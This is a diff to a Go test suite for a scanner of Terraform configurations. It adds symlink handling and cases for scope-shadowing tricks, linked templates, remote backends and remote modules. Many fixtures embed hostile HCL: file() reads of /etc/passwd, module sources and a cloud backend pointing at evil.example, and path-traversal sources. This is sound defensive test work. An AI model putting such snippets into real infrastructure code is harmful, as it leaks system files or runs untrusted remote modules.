@@ -21,7 +21,11 @@ func lookAt(t *testing.T, files map[string]string, l look) []string {
 		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
 			t.Fatal(err)
 		}
-		if err := os.WriteFile(full, []byte(content), 0o644); err != nil {
+		if target, link := strings.CutPrefix(content, "-> "); link {
+			if err := os.Symlink(target, full); err != nil {
+				t.Fatal(err)
+			}
+		} else if err := os.WriteFile(full, []byte(content), 0o644); err != nil {
 			t.Fatal(err)
 		}
 	}
@@ -84,16 +88,42 @@ func TestCodeIsLookedThrough(t *testing.T) {
 		"a hidden name":                  {main: "locals {\n  p = \"ok\"\n}\n" + input("[for local in [{ p = \"/etc/passwd\" }] : file(local.p)]"), want: []string{"file live/app/main.tf:5"}},
 		"a for over paths":               {main: input("[for p in [\"a\", \"/etc/passwd\"] : file(p)]"), want: []string{"file live/app/main.tf:2"}},
 		"each of some paths":             {main: "resource \"terraform_data\" \"x\" {\n  for_each = toset([\"../../../x\"])\n  input = file(each.key)\n}\n", want: []string{"file live/app/main.tf:3"}},
-		"a template's own file":          {main: input("templatefile(\"t.tpl\", {})"), more: map[string]string{"live/app/t.tpl": "a\n${file(\"/etc/passwd\")}\n"}, want: []string{"file live/app/t.tpl:2"}},
-		"a template's given path":        {main: input("templatefile(\"${path.module}/t.tpl\", { path = { module = \"/etc\" } })"), more: map[string]string{"live/app/t.tpl": "${file(\"${path.module}/x\")}\n"}, want: []string{"file live/app/t.tpl:1"}},
-		"a template of anything":         {main: input("templatestring(local.t, {})"), want: []string{"file live/app/main.tf:2"}},
-		"code in JSON":                   {main: input("1"), more: map[string]string{"live/app/x.tf.json": "{}"}, want: []string{"unread live/app/x.tf.json:1"}},
-		"code that is too deep":          {main: "locals {\n  x = " + strings.Repeat("(", 600) + "1" + strings.Repeat(")", 600) + "\n}\n", want: []string{"unread live/app/main.tf:1"}},
-		"what a module does":             {main: "module \"m\" {\n  source = \"../../modules/m\"\n}\n", more: map[string]string{"modules/m/m.tf": "data \"external\" \"x\" {\n}\n"}, want: []string{"external modules/m/m.tf:1"}},
-		"what a module is told":          {main: "module \"m\" {\n  source = \"../../modules/m\"\n  p = \"/etc/passwd\"\n}\n", more: map[string]string{"modules/m/m.tf": "variable \"p\" {}\n" + input("file(var.p)")}, want: []string{"file modules/m/m.tf:3"}},
-		"a module from elsewhere":        {main: "module \"m\" {\n  source = \"git::https://evil.example/m.git?ref=v1\"\n}\n", want: []string{"module live/app/main.tf:2"}},
-		"a module of the machine":        {main: "module \"m\" {\n  source = \"/etc\"\n}\n", want: []string{"module live/app/main.tf:2"}},
-		"a module outside":               {main: "module \"m\" {\n  source = \"../../../m\"\n}\n", want: []string{"module live/app/main.tf:2"}},
+		"a dynamic block that hides each": {
+			main: "resource \"terraform_data\" \"x\" {\n  for_each = toset([\"ok\"])\n  dynamic \"y\" {\n    for_each = [\"/etc/passwd\"]\n    iterator = each\n    content {\n      v = file(each.value)\n    }\n  }\n}\n",
+			want: []string{"file live/app/main.tf:7"},
+		},
+		"a dynamic block that hides the locals": {
+			main: "locals {\n  value = \"ok\"\n}\nresource \"terraform_data\" \"x\" {\n  dynamic \"y\" {\n    for_each = [\"/etc/passwd\"]\n    iterator = local\n    content {\n      v = file(local.value)\n    }\n  }\n}\n",
+			want: []string{"file live/app/main.tf:9"},
+		},
+		"a for that hides each": {
+			main: "resource \"terraform_data\" \"x\" {\n  for_each = toset([\"ok\"])\n  input = [for each in [{ value = \"/etc/passwd\" }] : file(each.value)]\n}\n",
+			want: []string{"file live/app/main.tf:3"},
+		},
+		"templates by a link": {
+			main: input("[for t in fileset(\"linked\", \"*.tpl\") : templatefile(\"linked/${t}\", {})]"),
+			more: map[string]string{"live/app/linked": "-> ../../shared", "shared/t.tpl": "${file(\"/etc/passwd\")}\n"},
+			want: []string{"file live/app/linked/t.tpl:1"},
+		},
+		"templates by a link that is met": {
+			main: input("[for t in fileset(\"t\", \"*/*.tpl\") : templatefile(\"t/${t}\", {})]"),
+			more: map[string]string{"live/app/t/linked": "-> ../../../shared", "shared/t.tpl": "${file(\"/etc/passwd\")}\n"},
+			want: []string{"file live/app/main.tf:2"},
+		},
+		"a template that a provider renders": {main: "data \"template_file\" \"x\" {\n  template = \"$${file(\\\"/etc/passwd\\\")}\"\n}\n", want: []string{"file live/app/main.tf:1"}},
+		"a state kept by a service":          {main: "terraform {\n  cloud {\n    hostname = \"evil.example\"\n  }\n}\n", want: []string{"backend live/app/main.tf:2"}},
+		"a state in somebody's database":     {main: "data \"terraform_remote_state\" \"x\" {\n  backend = \"pg\"\n}\n", want: []string{"remote_state live/app/main.tf:2"}},
+		"a module of a test":                 {main: input("1"), more: map[string]string{"live/app/tests/x.tftest.hcl": "run \"x\" {\n  module {\n    source = \"git::https://evil.example/m.git\"\n  }\n}\n"}, want: []string{"module live/app/tests/x.tftest.hcl:3"}},
+		"a template's own file":              {main: input("templatefile(\"t.tpl\", {})"), more: map[string]string{"live/app/t.tpl": "a\n${file(\"/etc/passwd\")}\n"}, want: []string{"file live/app/t.tpl:2"}},
+		"a template's given path":            {main: input("templatefile(\"${path.module}/t.tpl\", { path = { module = \"/etc\" } })"), more: map[string]string{"live/app/t.tpl": "${file(\"${path.module}/x\")}\n"}, want: []string{"file live/app/t.tpl:1"}},
+		"a template of anything":             {main: input("templatestring(local.t, {})"), want: []string{"file live/app/main.tf:2"}},
+		"code in JSON":                       {main: input("1"), more: map[string]string{"live/app/x.tf.json": "{}"}, want: []string{"unread live/app/x.tf.json:1"}},
+		"code that is too deep":              {main: "locals {\n  x = " + strings.Repeat("(", 600) + "1" + strings.Repeat(")", 600) + "\n}\n", want: []string{"unread live/app/main.tf:1"}},
+		"what a module does":                 {main: "module \"m\" {\n  source = \"../../modules/m\"\n}\n", more: map[string]string{"modules/m/m.tf": "data \"external\" \"x\" {\n}\n"}, want: []string{"external modules/m/m.tf:1"}},
+		"what a module is told":              {main: "module \"m\" {\n  source = \"../../modules/m\"\n  p = \"/etc/passwd\"\n}\n", more: map[string]string{"modules/m/m.tf": "variable \"p\" {}\n" + input("file(var.p)")}, want: []string{"file modules/m/m.tf:3"}},
+		"a module from elsewhere":            {main: "module \"m\" {\n  source = \"git::https://evil.example/m.git?ref=v1\"\n}\n", want: []string{"module live/app/main.tf:2"}},
+		"a module of the machine":            {main: "module \"m\" {\n  source = \"/etc\"\n}\n", want: []string{"module live/app/main.tf:2"}},
+		"a module outside":                   {main: "module \"m\" {\n  source = \"../../../m\"\n}\n", want: []string{"module live/app/main.tf:2"}},
 
 		"an ordinary stack": {
 			main: `
